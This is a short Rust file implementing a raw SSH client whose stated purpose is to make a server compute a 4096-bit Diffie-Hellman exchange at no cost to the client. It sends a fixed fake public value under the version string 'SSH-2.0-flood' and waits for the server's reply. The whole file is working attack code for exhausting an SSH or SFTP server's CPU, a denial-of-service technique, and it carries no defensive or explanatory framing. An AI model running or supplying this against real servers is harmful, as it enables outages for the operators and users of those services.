//! A client that makes the server compute in a large group, at no cost of its own.

use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::TcpStream;

const KEXINIT: u8 = 20;
const KEXDH_INIT: u8 = 30;
const KEXDH_REPLY: u8 = 31;
const GROUP_BYTES: usize = 512;

/// An SSH packet before encryption: its length is a multiple of eight, and at least four bytes pad it.
fn packet(kind: u8, payload: &[u8]) -> Vec<u8> {
    let padding = 4 + (8 - (6 + payload.len() + 4) % 8) % 8;
    let mut packet = ((2 + payload.len() + padding) as u32).to_be_bytes().to_vec();
    packet.extend([padding as u8, kind]);
    packet.extend(payload);
    packet.resize(packet.len() + padding, 0);
    packet
}

fn string(bytes: &[u8]) -> Vec<u8> {
    [&(bytes.len() as u32).to_be_bytes(), bytes].concat()
}

/// All that such a client says: its name, its lists, and its half of the exchange.
pub fn request() -> Vec<u8> {
    let lists = [
        "diffie-hellman-group16-sha512",
        "ssh-ed25519",
        "aes128-ctr",
        "aes128-ctr",
        "hmac-sha2-256",
        "hmac-sha2-256",
        "none",
        "none",
        "",
        "",
    ];
    let mut init = vec![7; 16];
    init.extend(lists.iter().flat_map(|list| string(list.as_bytes())));
    init.extend([0; 5]);
    // Neither too small nor above the prime.
    let half = [0x55; GROUP_BYTES];
    [b"SSH-2.0-flood\r\n".to_vec(), packet(KEXINIT, &init), packet(KEXDH_INIT, &string(&half))].concat()
}

/// Has one exchange computed, and returns once the server has answered with its half of it.
pub fn exchange(sftp: &str) -> io::Result<()> {
    let stream = TcpStream::connect(sftp)?;
    (&stream).write_all(&request())?;
    let mut heard = BufReader::new(&stream);
    heard.skip_until(b'\n')?;
    loop {
        let mut head = [0; 6];
        heard.read_exact(&mut head)?;
        let [a, b, c, d, _padding, kind] = head;
        if kind == KEXDH_REPLY {
            return Ok(());
        }
        let left = u64::from(u32::from_be_bytes([a, b, c, d])).saturating_sub(2);
        io::copy(&mut heard.by_ref().take(left), &mut io::sink())?;
    }
}
